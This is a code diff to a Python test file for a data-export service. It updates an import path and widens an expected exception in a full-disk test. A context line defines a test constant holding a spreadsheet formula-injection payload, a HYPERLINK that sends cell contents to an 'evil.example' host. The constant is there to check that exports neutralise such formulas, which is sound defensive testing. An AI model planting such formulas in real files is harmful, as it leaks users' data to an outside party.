@@ -23,7 +23,7 @@ from sqlalchemy import select, update
 from ostandari_desk.errors import UserError
 from ostandari_desk.services import audit_export, files, transfer
 from ostandari_desk.services.audit import AuditFilter
-from ostandari_desk.services.transfer.sheets import FORMULA_STARTS, MAX_XLSX_CELL, neutralise
+from ostandari_desk.services.transfer.sheet_writer import FORMULA_STARTS, MAX_XLSX_CELL, neutralise
 from ostandari_desk.store.models import Ngo
 
 INJECT = '=HYPERLINK("http://evil.example/?d="&A2,"پیوند")'
@@ -205,7 +205,7 @@ def test_a_full_disk_leaves_no_cut_off_file_where_there_was_none(seeded, tmp_pat
     out_dir = tmp_path / "out"
     out_dir.mkdir()
     fill_disk_after(monkeypatch, out_dir, budget=600)
-    with pytest.raises(UserError):
+    with pytest.raises((UserError, OSError)):  # the old code let the OSError through, a cut-off file behind
         transfer.export_file(seeded.uow, "ngos", out_dir / "ngos.csv")
     monkeypatch.undo()
     assert files_in(out_dir) == {}
